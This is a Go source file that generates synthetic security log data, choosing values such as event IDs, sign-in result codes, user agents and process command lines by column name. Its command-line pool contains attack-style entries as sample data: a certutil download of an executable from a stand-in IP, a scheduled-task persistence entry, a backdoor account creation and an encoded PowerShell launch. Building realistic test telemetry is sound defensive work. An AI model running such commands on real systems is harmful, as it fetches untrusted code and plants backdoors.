package synth

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
)

// Value pools of the generic generator, by what a column holds.
var (
	genericEventIDs = []int{4624, 4624, 4625, 4634, 4648, 4672, 4688, 4688, 4697, 4698, 4720, 4722, 4724,
		4725, 4726, 4728, 4732, 4738, 4740, 4756, 4768, 4769, 4771, 4776, 1102, 7045, 5140, 5145, 4663, 4657,
		1, 3, 7, 10, 11, 13, 22, 8004}
	genericPorts      = []int{443, 443, 80, 22, 3389, 445, 53, 8080, 135, 389, 636, 5985, 25, 1433}
	genericResultCode = []string{"0", "0", "0", "0", "0", "50126", "50074", "50140", "53003", "50053", "500121", "50057", "70044"}
	genericHTTPStatus = []int{200, 200, 200, 200, 201, 204, 301, 302, 400, 401, 403, 404, 500, 503}
	genericSeverities = []string{"High", "Medium", "Low", "Informational"}
	genericStatuses   = []string{"Succeeded", "Success", "Failed", "Failure"}
	genericOperations = []string{
		"Add member to role", "Add user", "Update user", "Reset user password", "Consent to application",
		"Add service principal credentials", "Update application – Certificates and secrets management ",
		"Add owner to application", "Sign-in activity", "Delete user", "Add member to group",
		"Microsoft.Compute/virtualMachines/write", "Microsoft.Authorization/roleAssignments/write",
		"Microsoft.KeyVault/vaults/secrets/read", "Create role assignment", "New-InboxRule", "Set-Mailbox",
		"Add-MailboxPermission", "FileDownloaded", "FileAccessed", "MailItemsAccessed", "UserLoggedIn",
	}
	genericActionTypes = []string{"ProcessCreated", "LogonSuccess", "LogonFailed", "ConnectionSuccess", "ConnectionFailed",
		"FileCreated", "FileModified", "FileRenamed", "RegistryValueSet", "DnsQueryResponse", "PowerShellCommand",
		"ServiceInstalled", "ScheduledTaskCreated", "AntivirusDetection", "ImageLoaded", "InboundConnectionAccepted"}
	genericCategories = []string{"UserManagement", "RoleManagement", "ApplicationManagement", "GroupManagement",
		"Policy", "Administrative", "Security", "SignInLogs", "AuditLogs"}
	genericFiles = []string{"powershell.exe", "cmd.exe", "rundll32.exe", "svchost.exe", "explorer.exe", "certutil.exe",
		"mshta.exe", "regsvr32.exe", "wmic.exe", "schtasks.exe", "net.exe", "whoami.exe", "msedge.exe",
		"invoice_2026.docm", "update.ps1", "payload.dll", "report.xlsx"}
	genericFolders = []string{`C:\Windows\System32`, `C:\Windows\SysWOW64`, `C:\Program Files\Microsoft Office\root\Office16`,
		`C:\Users\Public\Downloads`, `C:\ProgramData`, `C:\Windows\Temp`, `C:\Users\admin\AppData\Local\Temp`}
	genericCommands = []string{
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`,
		`cmd.exe /c whoami /all`, `rundll32.exe C:\ProgramData\payload.dll,DllRegisterServer`,
		`certutil.exe -urlcache -split -f http://198.51.100.23/a.exe C:\Windows\Temp\a.exe`,
		`schtasks /create /tn Updater /tr C:\ProgramData\update.exe /sc minute /mo 5`,
		`net user backdoor P@ssw0rd! /add`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n invoice_2026.docm`,
		`svchost.exe -k netsvcs -p -s Schedule`, `wmic process call create "cmd.exe /c calc.exe"`,
	}
	genericUserAgents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
		"python-requests/2.31.0", "curl/8.4.0", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126)",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
	}
	genericURLPaths = []string{"/", "/login", "/api/v1/users", "/wp-login.php", "/owa/auth/logon.aspx",
		"/admin/config.php", "/.env", "/index.html", "/cgi-bin/luci", "/api/v2/token"}
	genericDomains = []string{"login.microsoftonline.com", "graph.microsoft.com", "update.example-cdn.net",
		"raw.githubusercontent.com", "pastebin.com", "bad-domain.xyz", "portal.azure.com", "outlook.office365.com"}
	genericMessages = []string{
		"Failed password for invalid user admin from %s port 52144 ssh2",
		"Accepted publickey for %s from %s port 50522 ssh2",
		"User %s logged on from %s",
		"Connection from %s denied by policy",
		"An account was successfully logged on. Account: %s Source: %s",
		"Suspicious activity detected for %s from %s",
	}
)

// colName is a column name prepared for matching: key is columnKey's form (for long,
// distinctive fragments such as "userprincipalname"), words columnWords' (for short ones).
type colName struct {
	key   string
	words []string
}

func newColName(name string) colName { return colName{columnKey(name), columnWords(name)} }

// has reports whether the key contains any of the fragments.
func (n colName) has(frags ...string) bool {
	for _, f := range frags {
		if strings.Contains(n.key, f) {
			return true
		}
	}
	return false
}

// word reports whether any of ws is a whole word of the name.
func (n colName) word(ws ...string) bool {
	for _, w := range n.words {
		if slices.Contains(ws, w) {
			return true
		}
	}
	return false
}

// last reports whether the name's last word is one of ws.
func (n colName) last(ws ...string) bool {
	return len(n.words) > 0 && slices.Contains(ws, n.words[len(n.words)-1])
}

// intValue picks an integer for column n.
func (g *genericGen) intValue(n colName, r genericRow) int64 {
	switch {
	case n.has("eventid", "eventcode"):
		return int64(pick(g.r, genericEventIDs))
	case n.has("logontype"):
		return int64(pick(g.r, []int{2, 3, 3, 3, 5, 7, 10, 11}))
	case n.word("port"):
		if g.r.IntN(3) == 0 {
			return int64(49152 + g.r.IntN(16000))
		}
		return int64(pick(g.r, genericPorts))
	case n.has("statuscode", "httpstatus", "responsecode", "scstatus"):
		return int64(pick(g.r, genericHTTPStatus))
	case n.has("resulttype", "errorcode", "resultcode"):
		if r.fail {
			return int64(pick(g.r, []int{50126, 50074, 53003, 50053, 500121}))
		}
		return 0
	case n.has("processid") || n.word("pid"):
		return int64(100 + g.r.IntN(30000))
	case n.has("byte", "size", "length"):
		return int64(g.r.IntN(2_000_000))
	case n.has("duration", "latency") || n.word("ms", "time", "taken"):
		return int64(g.r.IntN(5000))
	case n.word("severity", "level", "priority"):
		return int64(g.r.IntN(5))
	case n.has("count", "number", "total") || n.word("num"):
		return int64(1 + g.r.IntN(50))
	case n.word("protocol"):
		return int64(pick(g.r, []int{6, 17, 1}))
	}
	return int64(g.r.IntN(100))
}

// realValue picks a real for column n.
func (g *genericGen) realValue(n colName, r genericRow) float64 {
	switch {
	case n.has("latitude") || n.last("lat"):
		return r.place.lat
	case n.has("longitude") || n.last("lon", "long", "lng"):
		return r.place.lon
	case n.has("score", "confidence", "percent"):
		return float64(g.r.IntN(10000)) / 100
	case n.has("byte", "size"):
		return float64(g.r.IntN(5_000_000))
	}
	return float64(g.r.IntN(100000)) / 100
}

// guidValue picks a GUID for column n.
func (g *genericGen) guidValue(n colName, r genericRow) string {
	switch {
	case n.word("tenant"):
		return g.p.tenant
	case n.word("subscription"):
		return g.p.subscription
	case n.word("user", "account", "principal") || n.has("objectid"):
		return r.u.id
	case n.word("device", "machine", "host", "computer"):
		return r.host.id
	case n.word("app", "application", "client"):
		return r.u.app.id
	}
	return newGUID(g.r)
}

// stringValue picks a string for column name (n is its prepared form). The cases are
// tried in order, most specific first.
func (g *genericGen) stringValue(name string, n colName, r genericRow) string {
	dom := g.o.Domain
	netbios := strings.ToUpper(strings.Split(dom, ".")[0])
	remote := n.word("dst", "dest", "destination", "remote", "server", "target", "to")
	table := g.t.Name
	switch {
	// Addresses.
	case n.word("mac"):
		return fmt.Sprintf("00-15-5D-%02X-%02X-%02X", g.r.IntN(256), g.r.IntN(256), g.r.IntN(256))
	case n.word("email", "mail", "sender", "recipient", "mailbox") && !n.word("domain", "count", "subject", "name", "id", "type", "direction", "size"):
		if remote || n.word("recipient") {
			return r.peer.upn
		}
		return r.u.upn
	case (n.word("ip", "ips", "ipv4", "ipv6", "ipaddr", "ipaddress") || n.has("ipaddress") ||
		n.last("address", "addr") && n.word("src", "dst", "source", "destination", "client", "server", "remote", "local", "caller", "nat")) && !n.word("port", "count", "type"):
		switch {
		case remote:
			return r.dstIP
		case n.word("local", "private", "internal", "nat"):
			return r.host.ip
		}
		return r.ip
	// People.
	case n.has("userprincipalname") || n.word("upn") || n.last("userid") || table == "OfficeActivity" && n.key == "userid":
		if remote {
			return r.peer.upn
		}
		return r.u.upn
	case n.last("sid") || n.has("securityidentifier"):
		if remote {
			return r.peer.sid
		}
		return r.u.sid
	case n.word("account", "username", "user", "identity", "caller", "actor", "owner", "subject") && !n.word("agent", "type", "count", "expires", "quota", "control", "flags", "process", "path", "machine", "port"):
		u := r.u
		if remote {
			u = r.peer
		}
		switch {
		case n.last("id") || n.has("objectid"):
			return u.id
		case n.word("domain"):
			return netbios
		case n.has("displayname", "fullname"):
			return u.display
		case n.key == "account" || n.key == "subjectaccount" || n.key == "targetaccount" || n.key == "identity":
			return netbios + `\` + u.local
		case n.key == "caller" || n.word("principal") || n.key == "user" || n.key == "actor" || n.key == "initiatedby":
			return u.upn
		}
		return u.local
	// Codes and identifiers.
	case n.key == "resulttype" || n.has("errorcode", "resultcode"):
		if r.fail {
			return pick(g.r, genericResultCode[5:])
		}
		return "0"
	case n.has("eventid", "eventcode"):
		return strconv.Itoa(pick(g.r, genericEventIDs))
	case n.has("processid") || n.word("pid"):
		return strconv.Itoa(100 + g.r.IntN(30000))
	case n.has("logonid"):
		return fmt.Sprintf("0x%x", 0x10000+g.r.IntN(0xfffff))
	case n.word("tenant") && n.last("id"):
		return g.p.tenant
	case n.word("device", "machine", "agent", "computer", "host") && n.last("id"):
		if strings.HasPrefix(table, "Device") {
			return r.host.mdeID
		}
		return r.host.id
	case n.word("app", "application", "client") && n.last("id"):
		return r.u.app.id
	case n.last("id", "guid", "uid") && !n.word("event", "vendor", "rule", "alert", "policy", "signature", "record", "external"):
		return newGUID(g.r)
	// Machines and places.
	case n.key == "computer" || n.key == "host" || n.last("hostname", "computername", "devicename", "machinename", "workstation", "fqdn") ||
		n.word("host", "hostname", "computer", "device", "machine", "workstation") && n.last("name"):
		if remote {
			return g.p.hosts[g.r.IntN(len(g.p.hosts))].fqdn
		}
		if n.key == "computer" || n.word("fqdn") || strings.HasPrefix(table, "Device") {
			return r.host.fqdn
		}
		return r.host.name
	case n.word("os") || n.has("osplatform", "operatingsystem", "osversion", "osname"):
		return r.host.os
	case n.word("country") || n.has("countryorregion") || n.key == "location":
		return r.place.country
	case n.word("city"):
		return r.place.name
	case n.word("state", "province") && n.word("geo", "location", "city"):
		return r.place.state
	// Web and files.
	case n.has("useragent"):
		return pick(g.r, genericUserAgents)
	case n.word("url", "uri") && !n.word("stem", "path", "query"):
		return "https://" + pick(g.r, genericDomains) + pick(g.r, genericURLPaths)
	case n.word("url", "uri", "cs") && n.word("stem", "path"):
		return pick(g.r, genericURLPaths)
	case n.word("method") && (n.word("http", "request", "cs") || n.key == "method"):
		return pick(g.r, []string{"GET", "GET", "POST", "PUT", "DELETE", "HEAD"})
	case n.word("domain", "fqdn", "dns") || n.has("queryname", "dnsquery") || n.key == "query" && strings.Contains(strings.ToLower(table), "dns"):
		if n.word("user", "account") {
			return netbios
		}
		return pick(g.r, append([]string{dom}, genericDomains...))
	case n.has("commandline"):
		return pick(g.r, genericCommands)
	case n.has("sha256"):
		return hexString(g.r, 64)
	case n.has("sha1"):
		return hexString(g.r, 40)
	case n.has("md5"):
		return hexString(g.r, 32)
	case n.word("hash", "filehash", "imphash"):
		return hexString(g.r, 64)
	case n.word("folder", "directory", "path", "folderpath", "filepath") && !n.word("url"):
		return pick(g.r, genericFolders) + `\` + pick(g.r, genericFiles)
	case n.word("process", "image", "processname") && n.last("name", "process", "image", "processname"):
		return pick(g.r, genericFolders[:2]) + `\` + pick(g.r, genericFiles[:13])
	case n.word("file", "filename"):
		return pick(g.r, genericFiles)
	// Applications.
	case n.has("appdisplayname", "appname", "applicationname") || n.key == "app" || n.key == "application":
		return r.u.app.name
	case n.has("resourcedisplayname"):
		return r.u.app.resource
	case n.has("clientappused"):
		return pick(g.r, []string{"Browser", "Mobile Apps and Desktop clients", "Exchange ActiveSync", "IMAP4", "Other clients"})
	// Low-cardinality names.
	case n.key == "resultdescription" || n.key == "resultreason" || n.key == "failurereason":
		if r.fail {
			return "Invalid username or password or Invalid on-premise username or password."
		}
		return ""
	case n.key == "resultsignature":
		return pick(g.r, []string{"None", "SUCCESS", "Succeeded"})
	case n.key == "result" || n.word("outcome") || n.key == "resultstatus":
		if r.fail {
			return pick(g.r, []string{"failure", "Failed"})
		}
		return pick(g.r, []string{"success", "Succeeded"})
	case n.word("severity") || n.has("risklevel", "threatlevel"):
		return pick(g.r, genericSeverities)
	case n.has("actiontype"):
		return pick(g.r, genericActionTypes)
	case n.key == "operation" || n.has("operationname", "activitydisplayname", "operationtype", "activitytype"):
		if n.key == "operation" && table == "OfficeActivity" {
			return pick(g.r, genericOperations[15:])
		}
		return pick(g.r, genericOperations)
	case n.key == "activity":
		return fmt.Sprintf("%d - %s", pick(g.r, genericEventIDs[:6]), pick(g.r, []string{"An account was successfully logged on.", "An account failed to log on.", "A new process has been created."}))
	case n.word("category"):
		return pick(g.r, genericCategories)
	case n.word("status"):
		if r.fail {
			return pick(g.r, genericStatuses[2:])
		}
		return pick(g.r, genericStatuses[:2])
	case n.last("level"):
		return pick(g.r, []string{"Informational", "Warning", "Error", "4"})
	case n.word("protocol"):
		return pick(g.r, []string{"TCP", "UDP", "HTTPS", "HTTP", "DNS"})
	case n.word("direction"):
		return pick(g.r, []string{"Inbound", "Outbound"})
	case n.last("action", "disposition", "verdict"):
		return pick(g.r, []string{"Allow", "Allow", "Deny", "Block", "Drop"})
	case n.has("logontype"):
		return pick(g.r, []string{"Interactive", "Network", "RemoteInteractive", "Service"})
	case n.word("message", "description", "msg", "details", "reason", "rawdata", "text", "summary", "comment", "syslogmessage"):
		f := pick(g.r, genericMessages)
		if strings.Count(f, "%s") == 1 {
			return fmt.Sprintf(f, r.ip)
		}
		return fmt.Sprintf(f, r.u.local, r.ip)
	case n.has("alertname", "displayname", "rulename") || n.word("title"):
		return pick(g.r, []string{"Unfamiliar sign-in properties", "Atypical travel", "Suspicious PowerShell command line",
			"Password spray", "Anonymous IP address", "Mass download by a single user"})
	case n.word("tactic", "tactics"):
		return pick(g.r, []string{"InitialAccess", "Persistence", "PrivilegeEscalation", "CredentialAccess", "Execution"})
	case n.word("technique", "techniques"):
		return pick(g.r, []string{"T1078", "T1110", "T1098", "T1059", "T1566"})
	case n.word("vendor", "product", "provider"):
		return pick(g.r, []string{"Microsoft", "Palo Alto Networks", "Cisco", "Fortinet", "Check Point"})
	case n.word("version"):
		return fmt.Sprintf("%d.%d", 1+g.r.IntN(10), g.r.IntN(10))
	}
	// Anything else: a few values per column, named after it.
	stem := name
	for _, suf := range []string{"_s", "_CF"} {
		stem = strings.TrimSuffix(stem, suf)
	}
	return fmt.Sprintf("%s-%d", stem, 1+g.r.IntN(5))
}
